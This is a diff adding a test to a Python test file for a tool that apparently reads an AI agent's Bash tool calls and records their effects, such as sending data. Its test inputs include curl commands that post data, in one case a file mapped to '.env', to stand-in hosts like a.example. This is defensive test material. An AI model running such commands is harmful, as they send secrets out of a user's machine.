@@ -137,3 +137,9 @@ def test_a_ledger_row_says_where_it_went_but_not_the_secret():
     said = brief(made)
     assert said == {"effects": ["sends curl -> x.example/a"], "unknown": ["no row for this program: frobnicate"]}
     assert len(str(brief(call("Bash", command="; ".join(f"curl -d a https://{'x' * 60}{n}.example" for n in range(50)))))) <= 400
+
+
+def test_a_bent_row_of_an_earlier_call_breaks_no_reading():
+    call = read(Event("PreToolUse", "s", tool="Bash", input={"command": "curl -d @x https://a.example"}), Settings(),
+                {"files": {"": [], "/p/x": [3, ".env"]}})
+    assert [effect.kind for effect in call.effects] == ["sends"]
